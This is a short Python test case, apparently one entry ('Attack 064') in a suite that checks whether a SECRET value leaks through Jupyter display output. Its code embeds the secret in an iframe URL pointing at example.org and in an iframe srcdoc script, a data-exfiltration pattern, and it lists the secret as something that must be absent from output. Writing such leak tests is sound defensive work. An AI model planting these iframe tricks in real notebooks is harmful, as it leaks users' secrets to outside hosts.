"""Attack 064: iframe"""

IDEA = "A page in the page."
SOURCE = "HTML, iframe srcdoc"
WAY = "iopub/display_data/data"
CODE = """
from IPython.display import IFrame, HTML, display

display(IFrame("https://example.org/" + SECRET, 100, 100))
display(HTML('x<iframe srcdoc="<script>%s</script>"></iframe>' % SECRET))
"""
ABSENT = ["SECRET"]
